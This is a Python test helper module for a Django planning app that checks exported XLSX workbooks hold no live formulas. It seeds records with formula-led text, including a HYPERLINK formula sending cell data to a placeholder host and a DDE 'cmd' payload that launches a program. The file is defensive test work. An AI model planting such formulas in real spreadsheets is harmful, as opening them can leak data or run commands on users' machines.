"""Checks on downloaded workbooks shared by the XLSX tests (no cell may be a live formula), and data whose
every user-typed text starts with a formula character."""

from __future__ import annotations

import io
import re
import zipfile

from django.db.models import F, Value
from django.db.models.functions import Concat
from openpyxl import load_workbook

from lkjip.models import Pegawai
from renja.models import Indikator, JenisPrioritas, Nomenklatur, Prioritas, RenstraTarget, RkpdReview, Usulan
from wilayah.models import Kecamatan, Kelurahan

from . import factories as f
from .lkjip.factories import sasaran

HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
CMD = "=cmd|' /C calc'!A0"

_ELEMEN_FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def sel_formula(isi: bytes) -> list[str]:
    """Every formula or error-typed cell of every sheet (``'Sheet!A1'``), from the XML and from openpyxl."""
    temuan = []
    with zipfile.ZipFile(io.BytesIO(isi)) as z:
        for nama in z.namelist():
            if (
                nama.startswith("xl/worksheets/")
                and nama.endswith(".xml")
                and _ELEMEN_FORMULA.search(z.read(nama))
            ):
                temuan.append(f"{nama}: <f>")
    wb = load_workbook(io.BytesIO(isi), data_only=False)
    for ws in wb.worksheets:
        for baris in ws.iter_rows():
            for sel in baris:
                if sel.data_type in ("f", "e"):
                    temuan.append(f"{ws.title}!{sel.coordinate} = {sel.value!r}")
    return temuan


def teks_sel(isi: bytes) -> list[str]:
    """Every text value of every sheet, as stored (for asserting the data really reached the file)."""
    wb = load_workbook(io.BytesIO(isi), data_only=False)
    return [
        sel.value
        for ws in wb.worksheets
        for baris in ws.iter_rows()
        for sel in baris
        if isinstance(sel.value, str)
    ]


def kecamatan_teks_formula(tahun: int = 2022) -> Kecamatan:
    """Kecamatan 36.73.01 with :func:`factories.data_renja` and a sasaran, every text led by ``=``/``@``/``+``/``-``."""
    kec = f.kecamatan("36.73.01", "Serang", alamat_kantor=HYPERLINK)
    f.data_renja(kec, 1, tahun=tahun)
    Nomenklatur.objects.update(uraian=Concat(Value("="), F("uraian")))
    Indikator.objects.update(uraian=Concat(Value("@"), F("uraian")), satuan="+1")
    Kelurahan.objects.update(nama=Concat(Value("-2+"), F("nama")))
    RenstraTarget.objects.update(indikator=Concat(Value("="), F("indikator")))
    RkpdReview.objects.update(
        indikator=Concat(Value("="), F("indikator")), catatan="=1+1", target_rancangan="=2*2"
    )
    sasaran(kec, tahun, "=Sasaran 1", [{"uraian": "@IKM", "satuan": "+%", "target": "75", "formula": "=A/B"}])
    Usulan.objects.create(
        kecamatan=kec, tahun=tahun, uraian="=Usulan", kelurahan=Kelurahan.objects.filter(kecamatan=kec).first(),
        indikator="@Indikator", volume="+5", catatan="=1+1",
    )  # fmt: skip
    for jenis in JenisPrioritas.values:
        Prioritas.objects.create(
            kecamatan=kec, tahun=tahun, jenis=jenis, uraian=f"={jenis}", fokus="@fokus", indikator="+indikator",
            keterangan="=1+1", instansi="@Dinas",
        )  # fmt: skip
    Pegawai.objects.create(
        tahun=tahun, kecamatan=kec, nama="=Camat", nip="+62 1", jabatan="@Camat", pangkat_golongan="IV/b"
    )
    return kec
